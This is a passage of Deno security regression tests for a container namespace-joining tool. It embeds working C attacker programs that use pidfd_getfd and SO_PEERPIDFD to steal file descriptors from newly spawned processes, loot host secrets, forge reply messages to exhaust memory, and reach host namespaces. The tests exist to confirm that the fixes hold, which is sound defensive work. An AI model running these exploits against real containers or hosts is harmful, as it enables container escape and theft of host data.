    const { forward } = await import("../src/forward.ts");
    await using target = await makeTarget({ flags: ["-n"], setup: "ip link set lo up" });
    for (const hostname of ["0.0.0.256", "127.0.0.300", "127.0.0.01"]) {
      const got = await forward(target.pid, { remote: 80, local: { hostname, port: 0 } })
        .then(async (f) => {
          await f.close();
          return f.local;
        }, (e: Error) => e);
      assert(got instanceof TypeError, `${hostname}: listened on ${JSON.stringify(got)}`);
      assertMatch((got as TypeError).message, /as an IP address/);
    }
  },
});

/**
 * In a pid namespace whose init holds CAP_SYS_PTRACE alone: for every new process (from
 * ns_last_pid) it takes fds 0-2 with pidfd_getfd and counts those that are pipes — with a
 * pty, the helper child's stdin, stdout and stderr are the pty, and a pipe there is the
 * caller's. SIGTERM ends it; it prints counts.
 */
const STDIO_THIEF_C = String.raw`
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
static volatile sig_atomic_t stop;
static void on_term(int s) { (void)s; stop = 1; }
int main(void) {
  struct sigaction sa = {0};
  sa.sa_handler = on_term;
  sigaction(SIGTERM, &sa, 0);
  int lp = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
  long last = -1, opened = 0, got = 0, pipes = 0;
  printf("ready\n");
  fflush(stdout);
  while (!stop) {
    char b[32];
    ssize_t n = pread(lp, b, sizeof b - 1, 0);
    long now = n > 0 ? (b[n] = 0, atol(b)) : last;
    if (last < 0) last = now;
    for (long pid = last + 1; pid <= now; pid++) {
      int pfd = -1;
      for (int i = 0; i < 200 && pfd < 0; i++) pfd = (int)syscall(SYS_pidfd_open, pid, 0);
      if (pfd < 0) continue;
      opened++;
      for (int fd = 0; fd < 3; fd++) {
        int g = (int)syscall(SYS_pidfd_getfd, pfd, fd, 0);
        if (g < 0) continue;
        got++;
        struct stat st;
        if (fstat(g, &st) == 0 && S_ISFIFO(st.st_mode)) pipes++;
        close(g);
      }
      close(pfd);
    }
    last = now;
    while (waitpid(-1, 0, WNOHANG) > 0) {}
  }
  printf("{\"opened\":%ld,\"got\":%ld,\"pipes\":%ld}\n", opened, got, pipes);
  fflush(stdout);
  return 0;
}
`;

/**
 * Compiles `source` (a static C attacker) and runs it as the init of a new pid namespace that
 * holds CAP_SYS_PTRACE alone; once it prints "ready", runs `runs` NsCommands of `true` with a
 * pty into that namespace, hands each result to `check`, then stops the attacker (SIGTERM) and
 * returns the counts it printed last (a JSON line).
 */
async function ptyAttack(
  source: string,
  runs: number,
  check: (run: Awaited<ReturnType<NsCommand["output"]>>) => void,
): Promise<Record<string, number>> {
  const dir = await Deno.makeTempDir({ prefix: "nsjoin-ptyattack-" });
  try {
    await Deno.writeTextFile(`${dir}/attacker.c`, source);
    const cc = await new Deno.Command("gcc", {
      args: ["-static", "-O2", "-o", `${dir}/attacker`, `${dir}/attacker.c`],
      stderr: "piped",
    }).output();
    assert(cc.success, text(cc.stderr));
    const target = new Deno.Command("unshare", {
      args: ["-p", "--fork", "--mount-proc", "setpriv", "--bounding-set=-all,+sys_ptrace"]
        .concat(["--inh-caps=-all", `${dir}/attacker`]),
      stdin: "null",
      stdout: "piped",
      stderr: "inherit",
    }).spawn();
    const reader = target.stdout.pipeThrough(new TextDecoderStream()).getReader();
    let out = "";
    while (!out.includes("ready\n")) {
      const { value, done } = await reader.read();
      if (done) throw new Error("the attacker did not start");
      out += value;
    }
    const pid = Number(Deno.readTextFileSync(`/proc/${target.pid}/task/${target.pid}/children`));
    try {
      for (let i = 0; i < runs; i++) {
        check(
          await new NsCommand("true", {
            target: pid,
            capabilities: "target",
            tty: true,
            stdin: "null",
            stdout: "piped",
            stderr: "piped",
          }).output(),
        );
      }
    } finally {
      Deno.kill(pid, "SIGTERM");
    }
    for (let r = await reader.read(); !r.done; r = await reader.read()) out += r.value;
    await target.status;
    return JSON.parse(out.trim().split("\n").pop()!);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
}

Deno.test({
  name: "review 4: with a pty, the caller's stdin, stdout and stderr never reach the target",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    // The child born in the target's pid namespace inherited the caller's stdio (a terminal
    // for the CLI) and replaced it with the pty only as its first step: a task with
    // CAP_SYS_PTRACE there (docker --cap-add SYS_PTRACE) took it with pidfd_getfd first in
    // about a quarter of the runs (a terminal: the root user's keystrokes, TIOCSTI).
    const counts = await ptyAttack(STDIO_THIEF_C, 60, (run) => {
      assertEquals(run.code, 0, text(run.stderr));
    });
    // The attack was live: it reached the children and took their fds.
    assert(counts.got > 0, JSON.stringify(counts));
    assertEquals(counts.pipes, 0, JSON.stringify(counts));
  },
});

// ---- review 6: sessions — the child's birth window reaches no socket that leads to Deno

/**
 * In a pid namespace whose init holds CAP_SYS_PTRACE alone: for every new process (from
 * ns_last_pid) it takes fds 3-63 with pidfd_getfd and, for each socket among them, asks it
 * whom it leads to: the process that made it (SO_PEERPIDFD) and the sender of a message
 * waiting on it (SO_PASSPIDFD, then a peek: SCM_PIDFD). With each such pidfd it takes that
 * process's fds 0-255, looking for a file that starts with "SECRET", and follows the sockets
 * among them the same way (two steps). It prints "socket" for each socket it took from a new
 * process (so the test knows the attack reached one); SIGTERM ends it; it prints counts.
 */
const SOCKET_THIEF_C = String.raw`
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
#ifndef SO_PASSPIDFD
#define SO_PASSPIDFD 76
#endif
#ifndef SO_PEERPIDFD
#define SO_PEERPIDFD 77
#endif
#ifndef SCM_PIDFD
#define SCM_PIDFD 0x04
#endif
static volatile sig_atomic_t stop;
static void on_term(int s) { (void)s; stop = 1; }
static long opened, sockets, pidfds, stolen, secrets;
static void follow(int sock, int depth);
/* Every fd of the process behind pidfd p: a secret file, or a socket to follow. */
static void loot(int p, int depth) {
  pidfds++;
  for (int k = 0; k < 256; k++) {
    int h = (int)syscall(SYS_pidfd_getfd, p, k, 0);
    if (h < 0) continue;
    stolen++;
    char buf[8] = {0};
    struct stat st;
    if (pread(h, buf, 6, 0) == 6 && !memcmp(buf, "SECRET", 6)) secrets++;
    else if (depth < 2 && fstat(h, &st) == 0 && S_ISSOCK(st.st_mode)) follow(h, depth + 1);
    close(h);
  }
  close(p);
}
static void follow(int sock, int depth) {
  sockets++;
  int p = -1;
  socklen_t l = sizeof p;
  if (getsockopt(sock, SOL_SOCKET, SO_PEERPIDFD, &p, &l) == 0 && p >= 0) loot(p, depth);
  int on = 1;
  setsockopt(sock, SOL_SOCKET, SO_PASSPIDFD, &on, sizeof on);
  char data[16], control[256];
  struct iovec iov = {data, sizeof data};
  struct msghdr m = {0};
  m.msg_iov = &iov;
  m.msg_iovlen = 1;
  m.msg_control = control;
  m.msg_controllen = sizeof control;
  if (recvmsg(sock, &m, MSG_PEEK | MSG_DONTWAIT | MSG_CMSG_CLOEXEC) < 0) return;
  for (struct cmsghdr *c = CMSG_FIRSTHDR(&m); c; c = CMSG_NXTHDR(&m, c)) {
    if (c->cmsg_level != SOL_SOCKET) continue;
    int *fds = (int *)CMSG_DATA(c);
    int n = (int)((c->cmsg_len - CMSG_LEN(0)) / sizeof(int));
    for (int i = 0; i < n; i++) {
      if (c->cmsg_type == SCM_PIDFD) loot(fds[i], depth);
      else close(fds[i]);
    }
  }
}
int main(void) {
  struct sigaction sa = {0};
  sa.sa_handler = on_term;
  sigaction(SIGTERM, &sa, 0);
  int lp = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
  long last = -1;
  printf("ready\n");
  fflush(stdout);
  while (!stop) {
    char b[32];
    ssize_t n = pread(lp, b, sizeof b - 1, 0);
    long now = n > 0 ? (b[n] = 0, atol(b)) : last;
    if (last < 0) last = now;
    for (long pid = last + 1; pid <= now; pid++) {
      int pfd = -1;
      for (int i = 0; i < 200 && pfd < 0; i++) pfd = (int)syscall(SYS_pidfd_open, pid, 0);
      if (pfd < 0) continue;
      opened++;
      for (int fd = 3; fd < 64; fd++) {
        int g = (int)syscall(SYS_pidfd_getfd, pfd, fd, 0);
        if (g < 0) continue;
        struct stat st;
        if (fstat(g, &st) == 0 && S_ISSOCK(st.st_mode)) {
          printf("socket\n");
          fflush(stdout);
          follow(g, 0);
        }
        close(g);
      }
      close(pfd);
    }
    last = now;
    while (waitpid(-1, 0, WNOHANG) > 0) {}
  }
  printf("{\"opened\":%ld,\"sockets\":%ld,\"pidfds\":%ld,\"stolen\":%ld,\"secrets\":%ld}\n",
         opened, sockets, pidfds, stolen, secrets);
  fflush(stdout);
  return 0;
}
`;

Deno.test({
  name: "review 6: a session's child hands the target no socket that leads to Deno's fds",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    // A child the session's helper forks is born in the target's pid namespace holding
    // copies of the helper's fds, closed as its first step. The helper's socket was one Deno
    // made and sent requests on: a task there with CAP_SYS_PTRACE (docker --cap-add
    // SYS_PTRACE) took it with pidfd_getfd, got a pidfd of Deno from it (SO_PEERPIDFD; or
    // SCM_PIDFD of a request) and with that any fd of Deno (pidfd_getfd checks no pid
    // namespace): here a host file Deno holds open that it may not read — in ~1 of 6 runs.
    const { openSession } = await import("../src/session.ts");
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-sockthief-" });
    try {
      await Deno.writeTextFile(`${dir}/thief.c`, SOCKET_THIEF_C);
      const cc = await new Deno.Command("gcc", {
        args: ["-static", "-O2", "-o", `${dir}/thief`, `${dir}/thief.c`],
        stderr: "piped",
      }).output();
      assert(cc.success, text(cc.stderr));
      // Mode 0: root without CAP_DAC_OVERRIDE (the target's init) may not open it; we may.
      await Deno.writeTextFile(`${dir}/secret`, "SECRET of the host\n", { mode: 0 });
      await Deno.chmod(`${dir}/secret`, 0);
      using secret = await Deno.open(`${dir}/secret`);
      const target = new Deno.Command("unshare", {
        args: ["-p", "--fork", "--mount-proc", "setpriv", "--bounding-set=-all,+sys_ptrace"]
          .concat(["--inh-caps=-all", `${dir}/thief`]),
        stdin: "null",
        stdout: "piped",
        stderr: "inherit",
      }).spawn();
      let out = "";
      const started = Promise.withResolvers<boolean>();
      const reading = (async () => {
        for await (const chunk of target.stdout.pipeThrough(new TextDecoderStream())) {
          out += chunk;
          if (out.includes("ready\n")) started.resolve(true);
        }
        started.resolve(false);
      })();
      if (!await started.promise) throw new Error("the attacker did not start");
      const pid = Number(Deno.readTextFileSync(`/proc/${target.pid}/task/${target.pid}/children`));
      const results: string[] = [];
      // The attack is a race: the thief must run between a child's fork and its first
      // syscall (closing the copies). On a loaded host it may lose every one of 100 races, so
      // the programs go on until it won enough (each socket it took led to Deno, ~1 in 5
      // requests, before the fix) or a generous deadline passes — no timing is asserted.
      const WANTED = 20, deadline = Date.now() + 120_000;
      const taken = () => out.match(/^socket$/gm)?.length ?? 0;
      try {
        // As it would be against the session's programs: root, the target's capabilities.
        await using session = await openSession(pid, { capabilities: "target" });
        for (let i = 0; i < 100 || (taken() < WANTED && Date.now() < deadline); i++) {
          const r = await session.output("true").then((r) => String(r.code), String);
          if (!results.includes(r)) results.push(r);
        }
      } finally {
        Deno.kill(pid, "SIGTERM");
      }
      await reading;
      await target.status;
      const counts = JSON.parse(out.trim().split("\n").pop()!);
      console.log(JSON.stringify(counts));
      assertEquals(
        counts.secrets,
        0,
        `the target read Deno's open file: ${JSON.stringify(counts)}`,
      );
      // The attack was live: it reached the children's sockets.
      assert(counts.sockets > 0, JSON.stringify(counts));
      assertEquals(results, ["0"]);
      assert(secret.statSync().isFile);
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- review 7: sessions — what a thief of the helper's reply socket can send Deno

/**
 * In a pid namespace whose init holds CAP_SYS_PTRACE alone: for every new process it takes
 * fds 3-63 with pidfd_getfd; for each SOCK_SEQPACKET socket (a session child's copy of the
 * helper's reply socket, at its birth) a process of its own sends on it, every 2 ms until
 * the end, a forged 'P' reply (ffi/helper.c session_loop) whose three "pipes" are /dev/zero:
 * a file whose reads never say "would block" nor end. SIGTERM ends it; it prints counts.
 */
const REPLY_FORGER_C = String.raw`
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
static volatile sig_atomic_t stop;
static void on_term(int s) { (void)s; stop = 1; }
int main(void) {
  struct sigaction sa = {0};
  sa.sa_handler = on_term;
  sigaction(SIGTERM, &sa, 0);
  int zero = open("/dev/zero", O_RDONLY | O_CLOEXEC);
  int lp = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
  long last = -1, sockets = 0, senders = 0;
  pid_t me = getpid();
  printf("ready\n");
  fflush(stdout);
  while (!stop) {
    char b[32];
    ssize_t n = pread(lp, b, sizeof b - 1, 0);
    long now = n > 0 ? (b[n] = 0, atol(b)) : last;
    if (last < 0) last = now;
    for (long pid = last + 1; pid <= now; pid++) {
      int pfd = -1;
      for (int i = 0; i < 200 && pfd < 0; i++) pfd = (int)syscall(SYS_pidfd_open, pid, 0);
      if (pfd < 0) continue;
      for (int fd = 3; fd < 64; fd++) {
        int g = (int)syscall(SYS_pidfd_getfd, pfd, fd, 0);
        if (g < 0) continue;
        int type = 0;
        socklen_t l = sizeof type;
        if (getsockopt(g, SOL_SOCKET, SO_TYPE, &type, &l) == 0 && type == SOCK_SEQPACKET) {
          sockets++;
          if (senders < 4 && ++senders && fork() == 0) {
            prctl(PR_SET_PDEATHSIG, SIGKILL);
            if (getppid() != me) _exit(0);
            char rep[8] = {'P', 0, 0, 0, 0, 0, 0, 0};
            struct iovec iov = {rep, 8};
            char control[CMSG_SPACE(3 * sizeof(int))];
            struct msghdr m = {0};
            m.msg_iov = &iov;
            m.msg_iovlen = 1;
            m.msg_control = control;
            m.msg_controllen = sizeof control;
            struct cmsghdr *c = CMSG_FIRSTHDR(&m);
            c->cmsg_level = SOL_SOCKET;
            c->cmsg_type = SCM_RIGHTS;
            c->cmsg_len = CMSG_LEN(3 * sizeof(int));
            int fds[3] = {zero, zero, zero};
            memcpy(CMSG_DATA(c), fds, sizeof fds);
            for (;;) {
              sendmsg(g, &m, MSG_DONTWAIT);
              usleep(2000);
            }
          }
        }
        close(g);
      }
      close(pfd);
    }
    last = now;
    while (waitpid(-1, 0, WNOHANG) > 0) {}
  }
  printf("{\"sockets\":%ld,\"senders\":%ld}\n", sockets, senders);
  fflush(stdout);
  return 0;
}
`;

Deno.test({
  name: "review 7: a session takes no fd but a pipe from its reply socket (a thief's /dev/zero)",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    // The reply socket is the helper's, but a session child is born holding a copy (the
    // review-6 fix made it lead to the helper, not Deno): a task of the target with
    // CAP_SYS_PTRACE takes it and sends Deno replies. One forged 'P' with /dev/zero as the
    // program's stdout made the next output() read it on Deno's thread for ever: the event
    // loop stopped and Deno (host root) grew ~300 MB/s until the OOM killer. So the session
    // runs in a Deno of its own, killed past 150 s or 1 GiB.
    // The attack is a race (the forger must take a child's copy before the child closes it):
    // on a loaded host it may lose every one of 300, so the session goes on until a forged
    // reply came (the only outcome the test judges) or a generous deadline passes; nothing
    // timed is asserted.
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-forger-" });
    try {
      await Deno.writeTextFile(`${dir}/forger.c`, REPLY_FORGER_C);
      const cc = await new Deno.Command("gcc", {
        args: ["-static", "-O2", "-o", `${dir}/forger`, `${dir}/forger.c`],
        stderr: "piped",
      }).output();
      assert(cc.success, text(cc.stderr));
      await Deno.writeTextFile(
        `${dir}/run.ts`,
        `import { openSession } from ${JSON.stringify(`${ROOT}src/session.ts`)};
const results = new Set<string>();
const deadline = Date.now() + 120_000;
await using session = await openSession(Number(Deno.args[0]), { capabilities: "target" });
for (let i = 0; !results.has("tampered") && (i < 300 || Date.now() < deadline); i++) {
  const r = await session.output("true").then(
    (r) => String(r.code) + "/" + r.stdout.length,
    (e) => /tampered/.test(e.message) ? "tampered" : e.message,
  );
  results.add(r);
}
console.log(JSON.stringify([...results]));
`,
      );
      const target = new Deno.Command("unshare", {
        args: ["-p", "--fork", "--mount-proc", "setpriv", "--bounding-set=-all,+sys_ptrace"]
          .concat(["--inh-caps=-all", `${dir}/forger`]),
        stdin: "null",
        stdout: "piped",
        stderr: "inherit",
      }).spawn();
      const reader = target.stdout.pipeThrough(new TextDecoderStream()).getReader();
      let out = "";
      while (!out.includes("ready\n")) {
        const { value, done } = await reader.read();
        if (done) throw new Error("the attacker did not start");
        out += value;
      }
      const pid = Number(Deno.readTextFileSync(`/proc/${target.pid}/task/${target.pid}/children`));
      let killed = "";
      let result: Deno.CommandOutput;
      try {
        const deno = new Deno.Command(Deno.execPath(), {
          args: ["run", "-A", "--quiet", "--no-lock", `${dir}/run.ts`, String(pid)],
          stdin: "null",
          stdout: "piped",
          stderr: "piped",
        }).spawn();
        const started = Date.now();
        const watch = setInterval(() => {
          let rss = 0;
          try {
            const status = Deno.readTextFileSync(`/proc/${deno.pid}/status`);
            rss = Number(/VmRSS:\s+(\d+)/.exec(status)?.[1] ?? 0) * 1024;
          } catch {
            return;
          }
          if (killed || (rss < 1 << 30 && Date.now() - started < 150_000)) return;
          killed = `${rss >> 20} MiB after ${Date.now() - started} ms`;
          deno.kill("SIGKILL");
        }, 100);
        result = await deno.output();
        clearInterval(watch);
      } finally {
        Deno.kill(pid, "SIGTERM");
      }
      for (let r = await reader.read(); !r.done; r = await reader.read()) out += r.value;
      await target.status;
      const counts = JSON.parse(out.trim().split("\n").pop()!);
      console.log(JSON.stringify(counts), text(result.stdout).trim());
      assertEquals(killed, "", `Deno read the thief's /dev/zero: ${JSON.stringify(counts)}`);
      assert(result.success, text(result.stderr));
      // The attack was live: a forged reply came first for a call, which refused it.
      assert(counts.senders > 0, JSON.stringify(counts));
      assertEquals(JSON.parse(text(result.stdout)).includes("tampered"), true);
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

/**
 * In a container (rootful, CAP_SYS_PTRACE): for every new process it takes fds 3-63 with
 * pidfd_getfd and, for each socket among them, a pidfd of the process that made it
 * (SO_PEERPIDFD); it counts such processes whose mount, network, IPC or UTS namespace
 * (PIDFD_GET_*_NAMESPACE, Linux 6.11) is not its own: fds of the host's, which setns(2)
 * enters with CAP_SYS_ADMIN, and a netlink request (IFLA_NET_NS_FD) reaches with
 * CAP_NET_ADMIN. It prints "peer" for each such socket (so the test knows the attack reached
 * one); SIGTERM ends it; it prints counts.
 */
const PEER_NAMESPACES_C = String.raw`
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
#ifndef SO_PEERPIDFD
#define SO_PEERPIDFD 77
#endif
static volatile sig_atomic_t stop;
static void on_term(int s) { (void)s; stop = 1; }
static const int ioc[4] = {2, 3, 4, 10}; /* PIDFD_GET_{IPC,MNT,NET,UTS}_NAMESPACE: _IO(0xFF, n) */
static const char *own[4] = {"/proc/self/ns/ipc", "/proc/self/ns/mnt", "/proc/self/ns/net",
                             "/proc/self/ns/uts"};
int main(void) {
  struct sigaction sa = {0};
  sa.sa_handler = on_term;
  sigaction(SIGTERM, &sa, 0);
  unsigned long long mine[4];
  for (int k = 0; k < 4; k++) {
    struct stat st;
    stat(own[k], &st);
    mine[k] = st.st_ino;
  }
  int lp = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
  long last = -1, peers = 0, outside = 0;
  printf("ready\n");
  fflush(stdout);
  while (!stop) {
    char b[32];
    ssize_t n = pread(lp, b, sizeof b - 1, 0);
    long now = n > 0 ? (b[n] = 0, atol(b)) : last;
    if (last < 0) last = now;
    for (long pid = last + 1; pid <= now; pid++) {
      int pfd = -1;
      for (int i = 0; i < 200 && pfd < 0; i++) pfd = (int)syscall(SYS_pidfd_open, pid, 0);
      if (pfd < 0) continue;
      for (int fd = 3; fd < 64; fd++) {
        int g = (int)syscall(SYS_pidfd_getfd, pfd, fd, 0);
        if (g < 0) continue;
        int p = -1;
        socklen_t l = sizeof p;
        if (getsockopt(g, SOL_SOCKET, SO_PEERPIDFD, &p, &l) == 0 && p >= 0) {
          peers++;
          printf("peer\n");
          fflush(stdout);
          int out = 0;
          for (int k = 0; k < 4; k++) {
            int ns = ioctl(p, _IO(0xFF, ioc[k]), 0);
            struct stat st;
            if (ns >= 0 && fstat(ns, &st) == 0 && st.st_ino != mine[k]) out = 1;
            if (ns >= 0) close(ns);
          }
          outside += out;
          close(p);
        }
        close(g);
      }
      close(pfd);
    }
    last = now;
    while (waitpid(-1, 0, WNOHANG) > 0) {}
  }
  printf("{\"peers\":%ld,\"outside\":%ld}\n", peers, outside);
  fflush(stdout);
  return 0;
}
`;

Deno.test({
  name: "review 7: a session's reply socket names no process in the host's namespaces",
  ignore: NEEDS_ROOT || (!HAVE_DOCKER && !CI),
  sanitizeResources: false,
  async fn() {
    // The socket named the process that made it, and the helper made it before joining: with
    // a v2 cgroup (H, a docker container's) that process stays behind to supervise the one
    // born in the cgroup, in every namespace of the host, with the caller's credentials. A
    // session child's copy of the socket, taken at its birth, gave the container fds of the
    // host's mount and network namespaces.
    // The sources, not mod.ts's bundle: the helper is ffi/helper_bin.ts's as it is now.
    const { openSession } = await import("../src/session.ts");
    const { resolveContainer } = await import("../src/containers.ts");
    const { containerExecOptions } = await import("../src/container_exec.ts");
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-peerns-" });
    const name = `nsjoin-peerns-${crypto.randomUUID().slice(0, 8)}`;
    try {
      await Deno.writeTextFile(`${dir}/peerns.c`, PEER_NAMESPACES_C);
      const cc = await new Deno.Command("gcc", {
        args: ["-static", "-O2", "-o", `${dir}/peerns`, `${dir}/peerns.c`],
        stderr: "piped",
      }).output();
      assert(cc.success, text(cc.stderr));
      const start = await new Deno.Command("docker", {
        args: ["run", "-d", "--name", name, "--cap-add", "SYS_PTRACE", "-v", `${dir}:/atk:ro`]
          .concat([DOCKER_IMAGE, "/atk/peerns"]),
        stdout: "piped",
        stderr: "piped",
      }).output();
      assert(start.success, text(start.stderr));
      const logs = async () =>
        text(
          (await new Deno.Command("docker", { args: ["logs", name], stderr: "null" }).output())
            .stdout,
        );
      for (let i = 0; i < 100 && !(await logs()).includes("ready"); i++) {
        await new Promise((r) => setTimeout(r, 50));
      }
      const results = new Set<number>();
      // The attack is a race: the thief must take a child's copy of the socket between its
      // birth and its first syscall (closing it). On a loaded host it may lose every one of 60
      // races, so the programs go on (its log read every 20) until it reached enough sockets
      // or a generous deadline passes; nothing timed is asserted.
      const WANTED = 5, deadline = Date.now() + 120_000;
      const reached = async () => (await logs()).match(/^peer$/gm)?.length ?? 0;
      {
        using c = await resolveContainer(`docker:${name}`);
        await using session = await openSession(c, containerExecOptions(c));
        for (
          let i = 0;
          i < 60 || (i % 20 !== 0 || await reached() < WANTED) && Date.now() < deadline;
          i++
        ) results.add((await session.output("true")).code);
      }
      await new Deno.Command("docker", { args: ["kill", "-s", "TERM", name], stdout: "null" })
        .output();
      await new Deno.Command("docker", { args: ["wait", name], stdout: "null" }).output();
      const counts = JSON.parse((await logs()).trim().split("\n").pop()!);
      console.log(JSON.stringify(counts));
      assertEquals(
        counts.outside,
        0,
        `the container got the host's namespaces: ${JSON.stringify(counts)}`,
      );
      // The attack was live: it reached the children's copies of the socket.
      assert(counts.peers > 0, JSON.stringify(counts));
      assertEquals([...results], [0]);
    } finally {
      await new Deno.Command("docker", { args: ["rm", "-f", name], stdout: "null", stderr: "null" })
        .output();
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- review 7b: exec relays socket stdio

/**
 * In a container (rootful, CAP_SYS_PTRACE): for every new process it takes fds 0-63 with
 * pidfd_getfd; for each socket among them it gets a pidfd of the peer (SO_PEERPIDFD: a host
 * process) and takes that process's fds 0-63 in turn, counting those whose first bytes hold
 * "nsjoin-secret" (a host file it cannot open). It also counts the new processes whose fd 1
 * it took (the attack reached the program). SIGTERM ends it; it prints counts.
 */
const PEER_THIEF_C = String.raw`
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
#ifndef SO_PEERPIDFD
#define SO_PEERPIDFD 77
#endif
static volatile sig_atomic_t stop;
static void on_term(int s) { (void)s; stop = 1; }
int main(void) {
  struct sigaction sa = {0};
  sa.sa_handler = on_term;
  sigaction(SIGTERM, &sa, 0);
  int lp = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
  long last = -1, reached = 0, sockets = 0, secrets = 0;
  printf("ready\n");
  fflush(stdout);
  while (!stop) {
    char b[32];
    ssize_t n = pread(lp, b, sizeof b - 1, 0);
    long now = n > 0 ? (b[n] = 0, atol(b)) : last;
    if (last < 0) last = now;
    for (long pid = last + 1; pid <= now; pid++) {
      int pfd = -1;
      for (int i = 0; i < 200 && pfd < 0; i++) pfd = (int)syscall(SYS_pidfd_open, pid, 0);
      if (pfd < 0) continue;
      for (int fd = 0; fd < 64; fd++) {
        int g = (int)syscall(SYS_pidfd_getfd, pfd, fd, 0);
        if (g < 0) continue;
        if (fd == 1) reached++;
        int p = -1;
        socklen_t l = sizeof p;
        if (getsockopt(g, SOL_SOCKET, SO_PEERPIDFD, &p, &l) == 0 && p >= 0) {
          sockets++;
          for (int hf = 0; hf < 64; hf++) {
            int h = (int)syscall(SYS_pidfd_getfd, p, hf, 0);
            if (h < 0) continue;
            char buf[64] = {0};
            if (pread(h, buf, sizeof buf - 1, 0) > 0 && strstr(buf, "nsjoin-secret")) secrets++;
            close(h);
          }
          close(p);
        }
        close(g);
      }
      close(pfd);
    }
    last = now;
    while (waitpid(-1, 0, WNOHANG) > 0) {}
  }
  printf("{\"reached\":%ld,\"sockets\":%ld,\"secrets\":%ld}\n", reached, sockets, secrets);
  fflush(stdout);
  return 0;
}
`;

/** Runs argv with stdout and stderr on a socketpair whose other end it holds, with `secret` open (mode 0). */
const SOCKET_STDIO_PY = `
import os, socket, subprocess, sys
secret = os.open(sys.argv[1], os.O_RDONLY)
a, b = socket.socketpair()
p = subprocess.Popen(sys.argv[2:], stdin=subprocess.DEVNULL, stdout=b.fileno(), stderr=b.fileno())
b.close()
while a.recv(65536):
    pass
sys.exit(p.wait())
`;

Deno.test({
  name: "review 7b: exec with a socket for stdout gives a CAP_SYS_PTRACE container no host fd",
  ignore: NEEDS_ROOT || (!HAVE_DOCKER && !CI),
  sanitizeResources: false,
  async fn() {
    // The program was born holding our stdout in the container's pid namespace: pidfd_getfd
    // took it, SO_PEERPIDFD named the host process at its other end (journald, a service's
    // parent), and pidfd_getfd on that pidfd (no pid-namespace check) gave every fd of it.
    // Now exec relays through pipes when one of its stdio is a socket, as docker exec does.
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-peerthief-" });
    const secretDir = await Deno.makeTempDir({ prefix: "nsjoin-secret-" });
    const name = `nsjoin-peerthief-${crypto.randomUUID().slice(0, 8)}`;
    try {
      await Deno.writeTextFile(`${dir}/thief.c`, PEER_THIEF_C);
      const cc = await new Deno.Command("gcc", {
        args: ["-static", "-O2", "-o", `${dir}/thief`, `${dir}/thief.c`],
        stderr: "piped",
      }).output();
      assert(cc.success, text(cc.stderr));
      const secret = `${secretDir}/secret`;
      await Deno.writeTextFile(secret, "nsjoin-secret 42\n", { mode: 0 });
      await Deno.chmod(secret, 0);
      await Deno.writeTextFile(`${secretDir}/wrap.py`, SOCKET_STDIO_PY);
      const start = await new Deno.Command("docker", {
        args: ["run", "-d", "--name", name, "--cap-add", "SYS_PTRACE", "-v", `${dir}:/atk:ro`]
          .concat([DOCKER_IMAGE, "/atk/thief"]),
        stdout: "piped",
        stderr: "piped",
      }).output();
      assert(start.success, text(start.stderr));
      const logs = async () =>
        text(
          (await new Deno.Command("docker", { args: ["logs", name], stderr: "null" }).output())
            .stdout,
        );
      for (let i = 0; i < 100 && !(await logs()).includes("ready"); i++) {
        await new Promise((r) => setTimeout(r, 50));
      }
      const codes = new Set<number>();
      for (let i = 0; i < 5; i++) {
        const run = await new Deno.Command("python3", {
          args: [`${secretDir}/wrap.py`, secret, Deno.execPath(), "run", "-A", "--quiet"]
            .concat([CLI, "exec", `docker:${name}`, "sleep", "0.3"]),
          stdout: "null",
          stderr: "null",
        }).output();
        codes.add(run.code);
      }
      await new Deno.Command("docker", { args: ["kill", "-s", "TERM", name], stdout: "null" })
        .output();
      await new Deno.Command("docker", { args: ["wait", name], stdout: "null" }).output();
      const counts = JSON.parse((await logs()).trim().split("\n").pop()!);
      console.log(JSON.stringify(counts));
      assertEquals(
        counts.secrets,
        0,
        `the container read a host secret: ${JSON.stringify(counts)}`,
      );
      // The attack was live: it took the programs' stdout.
      assert(counts.reached > 0, JSON.stringify(counts));
      assertEquals([...codes], [0]);
    } finally {
      await new Deno.Command("docker", { args: ["rm", "-f", name], stdout: "null", stderr: "null" })
        .output();
      await Deno.remove(dir, { recursive: true });
      await Deno.remove(secretDir, { recursive: true });
    }
  },
});

// ---- relay caps
// With a pty, the process that holds the caller's stdio and copies what the program writes
// into the pty (the terminal relay, forked before any join: see "Y" in ffi/helper.c) keeps
// no capability but CAP_KILL, which it needs to signal a joining process that became another
